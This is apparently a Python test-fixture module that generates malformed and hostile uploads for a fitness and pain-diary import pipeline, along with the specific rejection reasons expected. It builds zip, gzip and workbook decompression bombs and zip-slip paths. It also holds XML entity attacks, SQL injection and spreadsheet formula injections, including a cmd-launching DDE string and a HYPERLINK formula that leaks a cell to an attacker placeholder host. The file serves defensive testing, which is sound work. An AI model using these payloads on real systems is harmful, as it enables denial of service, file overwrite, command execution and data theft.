"""The hostile corpus: every file is built here, in code (never downloaded, never copied).

:func:`hostile_files` returns :class:`Hostile` entries: a file name as uploaded, its bytes,
and what must become of it - one :class:`Expect` per file the pipeline reports (a plain
file is one; an archive one per member). An expectation names the display path, the status
(``rejected``; ``skipped`` where that is the honest outcome; ``ok`` for honest content
behind a misleading name, or for a damaged FIT file that the FIT reader's documented rule
ingests with a CRC warning) and a regular expression the reason must match, so that a vague
reason fails. :data:`VAGUE` is what no reason may say (a reader's catch-all).

:func:`good_files` are what a mixed upload must still ingest, :func:`hostile_diaries` the
diary files for ``ingest.diary.parse_diary`` / ``pipelines.app.diary.import_diary``.

The builders of zips, XML, GPX, TCX and workbooks come from their modules in ``tests/support``.
"""

from __future__ import annotations

import functools
import gzip
import io
import random
import re
import struct
import zipfile
import zlib
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta

from demo import fitwriter
from ingest.fit import fit_crc
from tests.support import gpx_files, tcx_files
from tests.support.archives import make_zip, nest, patch_zip
from tests.support.workbooks import xlsx
from tests.support.xml_attacks import BILLION_LAUGHS, XXE, XXE_PARAMETER

MiB = 1024 * 1024
VAGUE = re.compile(r"please report|unexpected [A-Z]\w*(Error|Exception)")
"""The words of the readers' catch-all reasons: a hostile file must get a specific one."""
TODAY = date(2026, 6, 30)  # the diaries' "today"


@dataclass(frozen=True, slots=True)
class Expect:
    path: str  # display path: the name, or "archive.zip/member"
    status: str  # ok / skipped / rejected
    reason: str  # regular expression the reason must match (re.search); "" for no reason


@dataclass(frozen=True, slots=True)
class Hostile:
    name: str
    data: bytes
    expect: tuple[Expect, ...]
    what: str  # what is hostile about it


def _one(name: str, data: bytes, status: str, reason: str, what: str) -> Hostile:
    return Hostile(name, data, (Expect(name, status, reason),), what)


# ------------------------------------------------------------------------- good files

T0 = datetime(2024, 5, 1, 6, 0, tzinfo=UTC)


def walk_fit(day: int, minutes: int = 30) -> bytes:
    """A FIT walk on May ``day`` 2024 at 06:00 UTC (08:00 in Berlin)."""
    return fitwriter.activity_file(
        start_utc=T0 + timedelta(days=day - 1),
        elapsed_s=minutes * 60,
        sport=11,
        utc_offset_s=7200,
        steps=minutes * 110,
        record_interval_s=10,
    )


def walk_gpx(day: int, minutes: int = 30) -> bytes:
    """A GPX walk (1 m/s, a point every 10 s) on May ``day`` 2024 at 06:00 UTC."""
    start = (day - 1) * 86400
    points = [gpx_files.pt(start + t, t * 1.0) for t in range(0, minutes * 60 + 1, 10)]
    return gpx_files.doc(gpx_files.trk(gpx_files.seg(*points), type_="walking"))


def walk_tcx(day: int, minutes: int = 30) -> bytes:
    """A TCX walk (one lap, 1 m/s) on May ``day`` 2024 at 06:00 UTC."""
    start = (day - 1) * 86400
    points = "".join(
        f"<Trackpoint><Time>{gpx_files.at(start + t)}</Time>"
        f"<DistanceMeters>{t:.1f}</DistanceMeters></Trackpoint>"
        for t in range(0, minutes * 60 + 1, 10)
    )
    lap = (
        f'<Lap StartTime="{gpx_files.at(start)}"><TotalTimeSeconds>{minutes * 60}'
        f"</TotalTimeSeconds><DistanceMeters>{minutes * 60}</DistanceMeters>"
        f"<Track>{points}</Track></Lap>"
    )
    return tcx_files.doc(
        f'<Activity Sport="Walking"><Id>{gpx_files.at(start)}</Id>{lap}</Activity>'
    )


@functools.cache
def good_files() -> tuple[tuple[str, bytes], ...]:
    """What a hostile upload must not keep out: FIT walks and a GPX walk, each its own day."""
    return (
        ("good-walk-1.fit", walk_fit(1, 31)),
        ("good-walk-3.fit", walk_fit(3, 33)),
        ("good-walk-5.fit", walk_fit(5, 35)),
        ("good-walk-7.gpx", walk_gpx(7, 37)),
    )


GOOD_WALKING_MINUTES = {date(2024, 5, 1): 31.0, date(2024, 5, 3): 33.0, date(2024, 5, 5): 35.0}
"""Walking minutes per local day (Europe/Berlin) the good FIT files give. The GPX walk of
May 7 moves at 1 m/s, so its minutes depend on the GPX moving-time rule: tested as > 0."""


# ------------------------------------------------------------------------- builders


def _flip(data: bytes, offset: int) -> bytes:
    buffer = bytearray(data)
    buffer[offset] ^= 0xFF
    return bytes(buffer)


def _with_header_crc(data: bytes, crc: int) -> bytes:
    return data[:12] + struct.pack("<H", crc) + data[14:]


def _fit_header(data: bytes, data_size: int) -> bytes:
    """``data``'s 14-byte FIT header declaring ``data_size`` bytes, with a correct CRC."""
    header = bytearray(data[:14])
    struct.pack_into("<I", header, 4, data_size)
    struct.pack_into("<H", header, 12, fit_crc(bytes(header[:12])))
    return bytes(header)


@functools.cache
def _zeros(size: int) -> tuple[bytes, int]:
    """``size`` (a multiple of 1 MiB) zero bytes as a raw deflate stream, and their CRC-32.
    One MiB is compressed once and its block repeated: each block is flushed in full, so
    the copies stand alone and the stream is built in milliseconds."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = bytes(MiB)
    block = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    crc = 0
    for _ in range(size // MiB):
        crc = zlib.crc32(chunk, crc)
    return block * (size // MiB) + compressor.flush(), crc


def raw_zip(members: list[tuple[str, bytes, int, int]]) -> bytes:
    """A zip written by hand: (name, raw deflate stream, declared size, CRC-32) per member,
    so that a bomb is built without ever inflating it and its directory may lie."""
    out = io.BytesIO()
    central = io.BytesIO()
    for name, stream, size, crc in members:
        offset = out.tell()
        encoded = name.encode()
        fixed = (20, 0, 8, 0, 0x21, crc, len(stream), size, len(encoded), 0)
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, *fixed) + encoded + stream)
        central.write(
            struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, *fixed, 0, 0, 0, 0, offset) + encoded
        )
    directory = central.getvalue()
    count = len(members)
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(directory), out.tell(), 0)
    return out.getvalue() + directory + end


def zip_bomb(size: int = 256 * MiB, members: int = 1) -> bytes:
    """Members of ``size`` zero bytes each (≈ 1000:1), the directory telling the truth."""
    stream, crc = _zeros(size)
    return raw_zip([(f"zeros-{i}.fit", stream, size, crc) for i in range(members)])


def lying_zip_bomb(size: int = 256 * MiB) -> bytes:
    """A zip bomb whose directory claims its member holds 1000 bytes."""
    stream, crc = _zeros(size)
    return raw_zip([("small.fit", stream, 1000, crc)])


def gzip_bomb(size: int = 256 * MiB) -> bytes:
    stream, crc = _zeros(size)
    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
    return header + stream + struct.pack("<II", crc, size & 0xFFFFFFFF)


def xlsx_bomb(size: int = 256 * MiB) -> bytes:
    """A workbook whose one sheet inflates to ``size`` bytes."""
    stream, crc = _zeros(size)
    workbook = zlib.compressobj(9, zlib.DEFLATED, -15)
    book = b"<workbook/>"
    book_stream = workbook.compress(book) + workbook.flush()
    return raw_zip(
        [
            ("xl/workbook.xml", book_stream, len(book), zlib.crc32(book)),
            ("xl/worksheets/sheet1.xml", stream, size, crc),
        ]
    )


def nested_gzip(levels: int, inner: bytes) -> bytes:
    data = inner
    for _ in range(levels):
        data = gzip.compress(data, mtime=0)
    return data


def many_members(count: int) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_STORED) as archive:
        for i in range(count):
            archive.writestr(zipfile.ZipInfo(f"m{i}", date_time=(2024, 1, 1, 0, 0, 0)), b"")
    return buffer.getvalue()


def encrypted_zip(member: bytes) -> bytes:
    def encrypt_flag(buffer: bytearray, local: int, central: int) -> None:
        buffer[local + 6] |= 0x01
        buffer[central + 8] |= 0x01

    return patch_zip(make_zip({"walk.fit": member}), encrypt_flag)


def deep_xml(depth: int) -> bytes:
    head = b'<?xml version="1.0"?><gpx version="1.1">'
    return head + b"<a>" * depth + b"</a>" * depth + b"</gpx>"


def quadratic_blowup() -> bytes:
    """One 50 KB entity referenced 50,000 times (2.5 GB if expanded)."""
    entity = b'<!DOCTYPE gpx [<!ENTITY a "' + b"A" * 50_000 + b'">]>'
    return (
        b'<?xml version="1.0"?>'
        + entity
        + b"<gpx><trk><name>"
        + b"&a;" * 50_000
        + b"</name></trk></gpx>"
    )


def gpx_between(first: str, last: str) -> bytes:
    """A two-point GPX track from ``first`` to ``last`` (possibly impossible times)."""
    points = (gpx_files.pt(None, 0, time=first), gpx_files.pt(None, 100, time=last))
    return gpx_files.doc(gpx_files.trk(gpx_files.seg(*points)))


SESSIONS_HEADER = b"date,start,duration_min,type,utc_offset,distance_km,steps,name\n"


def sessions_csv(*rows: str) -> bytes:
    return SESSIONS_HEADER + "".join(f"{row}\n" for row in rows).encode()


def health_export(*elements: str) -> bytes:
    body = "".join(elements)
    return f'<?xml version="1.0"?><HealthData locale="en">{body}</HealthData>'.encode()


# ------------------------------------------------------------------------- the corpus

TRUNCATED = r"^(not a FIT file: only \d+ bytes|truncated: unexpected end of file at byte \d+)"
CRC_WARNING = r"file CRC mismatch \(computed 0x[0-9A-F]{4}, stored 0x[0-9A-F]{4}\): data decoded"
ZIP_BOMB = r"\(ratio \d+:1, above the 100:1 limit\): refused as a likely zip bomb$"
ENTITIES = r"^XML entity declarations are not allowed"
IMPOSSIBLE = r"^nothing a tracker could have recorded: 1 session\(s\) \(e\.g\. session 1 "
OUTSIDE = r"UTC, outside 1990-01-01 to 2099-12-31\)$"


def _fit_entries(add: list[Hostile]) -> None:
    walk = walk_fit(11)
    for keep in (1, 8, 12, 13, 20, 100, len(walk) // 2, len(walk) - 2):
        add.append(_one(f"truncated-{keep}.fit", walk[:keep], "rejected", TRUNCATED, "cut short"))
    flips = {  # byte inverted → what it hits, and the reason that must follow
        0: ("header size", "rejected", r"^bad header: header size 241, expected 12 or 14$"),
        4: ("declared data size", "rejected", r"^truncated: unexpected end of file"),
        9: ("'.FIT' signature", "rejected", r"^not a FIT file: no '\.FIT' signature"),
        14: ("first record header", "rejected", r"^data message uses local message type 1"),
        20: ("a definition's field", "ok", CRC_WARNING),
        60: ("a definition's field", "ok", CRC_WARNING),
    }
    for offset, (hit, status, reason) in flips.items():
        add.append(_one(f"bitflip-{offset}.fit", _flip(walk, offset), status, reason, hit))
    rng = random.Random(20240501)  # a few more, anywhere in the records
    for offset in sorted(rng.sample(range(200, len(walk) - 2), 4)):
        add.append(
            _one(
                f"bitflip-{offset}.fit",
                _flip(walk, offset),
                "ok|rejected",
                rf"{CRC_WARNING}|^data message|^truncated|^bad|^no |^timestamps",
                "a record byte inverted",
            )
        )
    add.append(
        _one(
            "bad-file-crc.fit",
            fitwriter.with_bad_crc(walk_fit(13)),
            "ok",
            CRC_WARNING,
            "file CRC wrong, data intact: ingested with a warning (FIT reader's rule)",
        )
    )
    add.append(
        _one(
            "bad-header-crc.fit",
            _with_header_crc(walk_fit(15), 0xBEEF),
            "ok",
            r"^header CRC mismatch \(computed 0x[0-9A-F]{4}, stored 0xBEEF\)",
            "header CRC wrong, data intact: ingested with a warning (FIT reader's rule)",
        )
    )
    add.append(
        _one(
            "bad-crc-truncated.fit",
            _with_header_crc(walk_fit(15), 0xBEEF)[:900],
            "rejected",
            TRUNCATED,
            "header CRC wrong and cut short",
        )
    )
    add.append(
        _one(
            "header-only.fit",
            _fit_header(walk, 0) + b"\x00\x00",
            "skipped",
            r"^FIT activity file holds no session or record data$",
            "a valid header and nothing else",
        )
    )
    add.append(
        _one(
            "declares-4gb.fit",
            _fit_header(walk, 0xFFFFFFFF) + walk[14:],
            "rejected",
            r"declares 4294967311 bytes, the file holds 1650 of them",
            "a header declaring 4 GB",
        )
    )
    add.append(
        _one(
            "garbage-after.fit",
            walk + bytes(range(256)) * 4,
            "rejected",
            r"^bad header \(chained FIT segment 2 at byte \d+\)",
            "a walk followed by 1 KB of garbage",
        )
    )
    add.append(
        _one(
            "device-relative.fit",
            fitwriter.activity_file(
                start_utc=datetime(1990, 1, 1, tzinfo=UTC),
                elapsed_s=600,
                sport=11,
                record_interval_s=None,
            ),
            "rejected",
            r"^timestamps are device-relative, the device clock was never set",
            "timestamps counted from power-on (1990-01-01 is 86400 s after the FIT epoch)",
        )
    )
    add.append(
        _one(
            "year-2100.fit",
            fitwriter.activity_file(
                start_utc=datetime(2100, 1, 1, tzinfo=UTC),
                elapsed_s=600,
                sport=11,
                record_interval_s=None,
            ),
            "rejected",
            IMPOSSIBLE + r"starts 2100-01-01 00:00 " + OUTSIDE,
            "a walk in 2100",
        )
    )


def _noise_and_names(add: list[Hostile]) -> None:
    rng = random.Random(7)
    unrecognised = r"^unrecognised file format: its content is none of: fit, gzip, zip, "
    add += [
        _one("empty.fit", b"", "rejected", r"^empty file \(0 bytes\)$", "0 bytes"),
        _one("empty.gpx", b"", "rejected", r"^empty file \(0 bytes\)$", "0 bytes"),
        _one("no-extension", b"", "rejected", r"^empty file \(0 bytes\)$", "0 bytes"),
        _one("random.bin", rng.randbytes(4096), "rejected", unrecognised, "noise"),
        _one(
            "random.fit",
            rng.randbytes(4096),
            "rejected",
            r"^not a FIT file: no '\.FIT' signature",
            "noise named .fit",
        ),
        _one(
            "random.gpx",
            rng.randbytes(4096),
            "rejected",
            r"^not well-formed XML: Start tag expected",
            "noise named .gpx",
        ),
        _one("random.zip", rng.randbytes(4096), "rejected", unrecognised, "noise named .zip"),
        _one(
            "image.fit",
            b"\x89PNG\r\n\x1a\n" + rng.randbytes(500),
            "rejected",
            r"^not a FIT file",
            "a PNG named .fit",
        ),
        _one("spaces.fit", b" " * 1000, "rejected", r"^not a FIT file", "1000 spaces named .fit"),
        _one("bom-only.csv", b"\xef\xbb\xbf", "rejected", unrecognised, "a BOM and nothing"),
        # honest content behind a misleading name: content decides, so these are ingested
        _one("gpx-named.fit", walk_gpx(17), "ok", r"", "a GPX walk named .fit"),
        _one("fit-named.gpx", walk_fit(19), "ok", r"", "a FIT walk named .gpx"),
        _one("tcx-named.gpx", walk_tcx(21), "ok", r"", "a TCX walk named .gpx"),
        _one("gzip-named.fit", gzip.compress(walk_fit(25), mtime=0), "ok", r"", "a .gz named .fit"),
        Hostile(
            "zip-named.csv",
            make_zip({"inside.fit": walk_fit(23)}),
            (Expect("zip-named.csv/inside.fit", "ok", r""),),
            "a zip named .csv",
        ),
        Hostile(
            "workbook.fit",
            make_zip({"xl/workbook.xml": b"<workbook/>"}),
            (Expect("workbook.fit/xl/workbook.xml", "skipped", r"^not a tracker file"),),
            "a spreadsheet named .fit",
        ),
    ]


def _archive_entries(add: list[Hostile]) -> None:
    walk = walk_fit(11)
    slip = {
        "../../etc/passwd": b"root:x:0:0",
        "/etc/cron.d/evil.fit": walk,
        "C:\\Windows\\evil.fit": walk,
        "..\\..\\evil.fit": walk,
        "a/../../evil.fit": walk,
    }
    add += [
        Hostile(
            "bomb.zip",
            zip_bomb(),
            (Expect("bomb.zip/zeros-0.fit", "rejected", r"^268435456 bytes compressed into"),),
            "256 MiB of zeros in 256 KB",
        ),
        Hostile(
            "bomb-16.zip",
            zip_bomb(members=16),
            tuple(Expect(f"bomb-16.zip/zeros-{i}.fit", "rejected", ZIP_BOMB) for i in range(16)),
            "16 members of 256 MiB (4 GiB)",
        ),
        Hostile(
            "bomb-lying.zip",
            lying_zip_bomb(),
            (Expect("bomb-lying.zip/small.fit", "rejected", r"^corrupt zip member: Bad CRC"),),
            "a zip bomb whose directory says 1000 bytes",
        ),
        _one("bomb.gz", gzip_bomb(), "rejected", ZIP_BOMB, "256 MiB of zeros gzipped"),
        _one("bomb.fit.gz", gzip_bomb(), "rejected", ZIP_BOMB, "a gzip bomb named .fit.gz"),
        Hostile(
            "bomb.xlsx",
            xlsx_bomb(),
            (
                Expect("bomb.xlsx/xl/workbook.xml", "skipped", r"^not a tracker file"),
                Expect("bomb.xlsx/xl/worksheets/sheet1.xml", "rejected", ZIP_BOMB),
            ),
            "a workbook whose sheet is 256 MiB of zeros",
        ),
        Hostile(
            "slip.zip",
            make_zip(slip),
            tuple(
                Expect(f"slip.zip/{name}", "rejected", r"\(a zip-slip attack pattern\)")
                for name in slip
            ),
            "zip-slip member names",
        ),
        Hostile(
            "nested.zip",
            nest(12),
            (
                Expect(
                    "nested.zip/level2.zip/level3.zip/level4.zip/level5.zip",
                    "rejected",
                    r"^zip archive nested 5 levels deep; at most 4 levels are opened$",
                ),
            ),
            "12 zips inside each other",
        ),
        _one(
            "nested.fit.gz",
            nested_gzip(8, walk),
            "rejected",
            r"^gzip archive nested 5 levels deep; at most 4 levels are opened$",
            "8 gzips inside each other",
        ),
        _one(
            "members.zip",
            many_members(50_001),
            "rejected",
            r"^zip archive holds 50001 files, more than the 50000 members",
            "50,001 empty members",
        ),
        Hostile(
            "encrypted.zip",
            encrypted_zip(walk),
            (Expect("encrypted.zip/walk.fit", "rejected", r"password-protected"),),
            "an encrypted member",
        ),
        _one(
            "truncated.zip",
            make_zip({"walk.fit": walk})[:-30],
            "rejected",
            r"^corrupt zip archive",
            "a zip cut short",
        ),
        _one(
            "empty.zip",
            make_zip({}),
            "skipped",
            r"^empty zip archive: it holds no files$",
            "a zip without files",
        ),
        Hostile(
            "macos.zip",
            make_zip({"__MACOSX/._walk.fit": b"x", "._notes.fit": b"y"}),
            (
                Expect("macos.zip/__MACOSX/._walk.fit", "skipped", r"^macOS resource-fork"),
                Expect("macos.zip/._notes.fit", "skipped", r"^macOS resource-fork"),
            ),
            "only macOS metadata",
        ),
    ]


def _xml_entries(add: list[Hostile]) -> None:
    not_well_formed = r"^not well-formed XML: "
    add += [
        _one("laughs.gpx", BILLION_LAUGHS, "rejected", ENTITIES, "billion laughs"),
        _one("xxe.gpx", XXE, "rejected", ENTITIES + r".*\(secret\).*XXE", "XXE file:///"),
        _one("xxe-param.gpx", XXE_PARAMETER, "rejected", ENTITIES + r".*XXE", "XXE, %param"),
        _one(
            "laughs.tcx",
            BILLION_LAUGHS.replace(b"gpx", b"TrainingCenterDatabase"),
            "rejected",
            ENTITIES,
            "billion laughs in a TCX",
        ),
        _one(
            "laughs-export.xml",
            BILLION_LAUGHS.replace(b"gpx", b"HealthData"),
            "rejected",
            ENTITIES,
            "billion laughs in an Apple Health export",
        ),
        _one("quadratic.gpx", quadratic_blowup(), "rejected", ENTITIES, "quadratic blow-up"),
        _one(
            "deep.gpx",
            deep_xml(100_000),
            "rejected",
            not_well_formed + r".*Excessive depth in document",
            "100,000 nested elements",
        ),
        _one(
            "unclosed.gpx",
            walk_gpx(27)[:-200],
            "rejected",
            not_well_formed + r".*\(line \d+\)$",
            "a GPX cut short",
        ),
        _one(
            "bad-utf8.gpx",
            walk_gpx(29).replace(b"OpenTracks", b"Open\xff\xfeTracks"),
            "rejected",
            not_well_formed + r".*Invalid bytes in character encoding",
            "invalid UTF-8 in a GPX",
        ),
        _one(
            "nul.gpx",
            walk_gpx(29).replace(b"<trk>", b"<trk>\x00"),
            "rejected",
            not_well_formed + r".*Char 0x0 out of allowed range",
            "a NUL byte in a GPX",
        ),
        _one(
            "huge-text.gpx",
            gpx_files.doc(f"<trk><name>{'x' * (12 * MiB)}</name></trk>"),
            "rejected",
            not_well_formed + r".*Text node too long",
            "a 12 MiB text node",
        ),
    ]


def _text_entries(add: list[Hostile]) -> None:
    add += [
        _one(
            "huge-line.csv",
            SESSIONS_HEADER + b"2024-05-01,07:00,30,Walk,,,," + b"x" * (50 * MiB) + b"\n",
            "rejected",
            r"^sessions CSV: row 2 cannot be read: a value is longer than 131072 characters",
            "a sessions CSV with a 50 MB line",
        ),
        _one(
            "one-line.csv",
            b"a" * (50 * MiB),
            "rejected",
            r"^unrecognised file format",
            "50 MB without a line break",
        ),
        _one(
            "deep-suunto.json",
            b'{"DeviceLog": {"Header": ' + b"[" * 100_000 + b"]" * 100_000 + b"}}",
            "rejected",
            r"maximum recursion depth exceeded|nested over \d+ levels deep",
            "JSON nested 100,000 deep",
        ),
        _one(
            "strava-nan.json",
            b'[{"resource_state": 2, "start_date": "2024-05-01T06:00:00Z", '
            b'"elapsed_time": NaN, "moving_time": 1e999, "type": "Walk"}]',
            "rejected",
            r"elapsed_time nan is not a number",
            "NaN and 1e999 in Strava JSON",
        ),
        _one(
            "fitbit-huge.csv",
            b"Id,ActivityMinute,Steps\n1,4/12/2016 12:00:00 AM,1e308\n",
            "rejected",
            r"^nothing a tracker could have recorded: 1 step interval\(s\) .* counts 1000…",
            "1e308 steps in a minute",
        ),
        _one(
            "fitbit-year-9999.csv",
            b"Id,ActivityDate,TotalSteps\n1,12/31/9999,5000\n",
            "rejected",
            r"a daily total dated 9999-12-31, outside 1990-01-01 to 2099-12-31",
            "a daily total in 9999",
        ),
        _one(
            "export-years.xml",
            health_export(
                '<Workout workoutActivityType="HKWorkoutActivityTypeWalking" duration="1e308" '
                'durationUnit="min" sourceName="x" startDate="0001-01-01 00:00:00 +0000" '
                'endDate="9999-01-01 00:00:00 +0000"/>'
            ),
            "rejected",
            IMPOSSIBLE,
            "an Apple Health workout from year 1 to 9999",
        ),
        _one(
            "polar-9999.hrm",
            b"[Params]\nVersion=106\nDate=99991231\nStartTime=23:59:59.0\n"
            b"Length=99:59:59.9\nInterval=1\n[HRData]\n100\n",
            "rejected",
            r"^nothing a tracker could have recorded",
            "a Polar session on 9999-12-31 lasting 100 hours",
        ),
    ]
    for label, row, reason in (
        ("year0", "0000-01-01,07:00,30,Walk,,,,", r"date '0000-01-01' is not a date"),
        ("feb30", "2024-02-30,07:00,30,Walk,,,,", r"date '2024-02-30' is not a date"),
        ("month13", "2024-13-01,07:00,30,Walk,,,,", r"date '2024-13-01' is not a date"),
        ("year1", "0001-01-01,00:00,30,Walk,,,,", r"starts 0001-01-01 00:00 " + OUTSIDE),
        ("year9999", "9999-12-31,23:59,30,Walk,,,,", r"starts 9999-12-31 23:59 " + OUTSIDE),
        ("year2999", "2999-12-31,20:00,30,Walk,,,,", r"starts 2999-12-31 20:00 " + OUTSIDE),
        ("1e308-minutes", "2024-05-01,07:00,1e308,Walk,,,,", r"'1e308' is longer than a day"),
        ("nan-minutes", "2024-05-01,07:00,NaN,Walk,,,,", r"'NaN' is not a non-negative number"),
        ("negative", "2024-05-01,07:00,-30,Walk,,,,", r"'-30' is not a non-negative number"),
        ("offset", "2024-05-01,07:00,30,Walk,+99:00,,,", r"'\+99:00' is not an offset"),
        ("huge-steps", "2024-05-01,07:00,30,Walk,,,1e308,", r"steps '1e308' is not a whole"),
    ):
        add.append(
            _one(
                f"sessions-{label}.csv",
                sessions_csv(row),
                "rejected",
                reason,
                f"a sessions CSV row: {row}",
            )
        )
    for label, first, last, reason in (
        ("year0", "0000-01-01T00:00:00Z", "0000-01-01T00:30:00Z", r"cannot be read"),
        ("feb30", "2024-02-30T10:00:00Z", "2024-02-30T10:30:00Z", r"cannot be read"),
        ("1700", "1700-01-01T00:00:00Z", "1700-01-01T00:30:00Z", r"before 1990"),
        ("year9999", "9999-01-01T00:00:00Z", "9999-01-01T00:30:00Z", r"starts 9999-01-01"),
        ("year2999", "2999-01-01T00:00:00Z", "2999-01-01T00:30:00Z", r"starts 2999-01-01"),
    ):
        add.append(_one(f"time-{label}.gpx", gpx_between(first, last), "rejected", reason, first))


@functools.cache
def hostile_files() -> tuple[Hostile, ...]:
    entries: list[Hostile] = []
    for section in (_fit_entries, _noise_and_names, _archive_entries, _xml_entries, _text_entries):
        section(entries)
    names = [entry.name for entry in entries]
    assert len(set(names)) == len(names), "corpus names must be unique"
    return tuple(entries)


# ------------------------------------------------------------------------- diaries

DIARY_HEADER = "date,time,pain_0_100,flare_up,painkiller,exercise_pain,note\n"
FORMULAS = (
    "=cmd|' /C calc'!A0",
    "+SUM(A1:A9)",
    "-2+3+cmd|' /C notepad'!A1",
    '@HYPERLINK("http://attacker.invalid/?leak="&A1,"click")',
    "\t=1+1",
)


@dataclass(frozen=True, slots=True)
class HostileDiary:
    name: str
    data: bytes
    rejected: str | None  # regular expression of the whole file's rejection, or None
    entries: int  # good rows that go in
    error_rows: tuple[int, ...]  # rows named in row errors
    what: str


def _diary(*rows: str) -> bytes:
    return (DIARY_HEADER + "".join(f"{row}\n" for row in rows)).encode()


@functools.cache
def hostile_diaries() -> tuple[HostileDiary, ...]:
    formula_rows = [
        f'2026-05-0{i + 1},,40,no,no,,"{text.replace(chr(34), chr(34) * 2)}"'
        for i, text in enumerate(FORMULAS)
    ]
    return (
        HostileDiary(
            "formulas.csv",
            _diary(*formula_rows, '2026-05-09,,30,no,"=HYPERLINK(""x"")",,'),
            None,
            6,
            (),
            "spreadsheet formulas in notes and the painkiller name",
        ),
        HostileDiary(
            "pain-values.csv",
            _diary(
                "2026-05-01,,1e308,,,,",
                "2026-05-02,,NaN,,,,",
                "2026-05-03,,-5,,,,",
                "2026-05-04,,inf,,,,",
                "2026-05-05,,101,,,,",
                "2026-05-06,,40; DROP TABLE diary,,,,",
                "2026-05-07,,50,,,,",
            ),
            None,
            1,
            (2, 3, 4, 5, 6, 7),
            "pain 1e308, NaN, negative, infinite, above 100, SQL",
        ),
        HostileDiary(
            "dates.csv",
            _diary(
                "0000-01-01,,40,,,,",
                "0001-01-01,,40,,,,",
                "1900-01-01,,40,,,,",
                "9999-12-31,,40,,,,",
                "2026-02-30,,40,,,,",
                "2026-05-06,25:99,40,,,,",
                "2026-05-07,,50,,,,",
            ),
            None,
            1,
            (2, 3, 4, 5, 6, 7),
            "year 0, 1, 1900, 9999, February 30, 25:99",
        ),
        HostileDiary(
            "huge-note.csv",
            _diary("2026-05-01,,40,,,," + "x" * 100_000),
            None,
            1,
            (),
            "a 100,000-character note (cut to 2000, with a warning)",
        ),
        HostileDiary(
            "wrong-columns.csv",
            b"foo,bar,baz\n1,2,3\n",
            r"^not a diary: expected a header naming a date column",
            0,
            (),
            "no diary columns",
        ),
        HostileDiary(
            "two-scales.csv",
            b"date,pain_0_100,pain_0_10\n2026-05-01,40,4\n",
            r"^two pain columns on different scales",
            0,
            (),
            "both pain scales",
        ),
        HostileDiary(
            "shifted.csv",
            _diary("2026-05-01,,40,no,no,,ok,extra,cells,here", "2026-05-02,,30,,,,"),
            None,
            1,
            (2,),
            "a row with more cells than the header",
        ),
        HostileDiary(
            "nul.csv",
            _diary("2026-05-01,,40,,,,a\x00b"),
            r"^binary content, not a text table",
            0,
            (),
            "a NUL byte",
        ),
        HostileDiary("empty.csv", b"", r"^the file is empty$", 0, (), "0 bytes"),
        HostileDiary(
            "huge-line.csv",
            _diary("2026-05-01,,40,,,," + "y" * (15 * MiB)),
            r"field larger than field limit \(131072\)",
            0,
            (),
            "a 15 MB line",
        ),
        HostileDiary(
            "too-many-rows.csv",
            _diary(*(f"2026-05-01,{i // 60 % 24:02d}:{i % 60:02d},40,,,," for i in range(60_000))),
            r"^more than 50000 rows",
            0,
            (),
            "60,000 rows",
        ),
        HostileDiary(
            "bomb.xlsx", xlsx_bomb(), r"\d+ bytes", 0, (), "a workbook inflating to 256 MiB"
        ),
        HostileDiary(
            "formula.xlsx",
            xlsx(("Diary", [["date", "pain_0_100", "note"], ["2026-05-01", 40, "=1+1"]])),
            None,
            1,
            (),
            "a formula cell in a workbook",
        ),
    )


TOO_LARGE_DIARY = 22_000_000  # bytes: beyond UploadLimits.max_diary_bytes
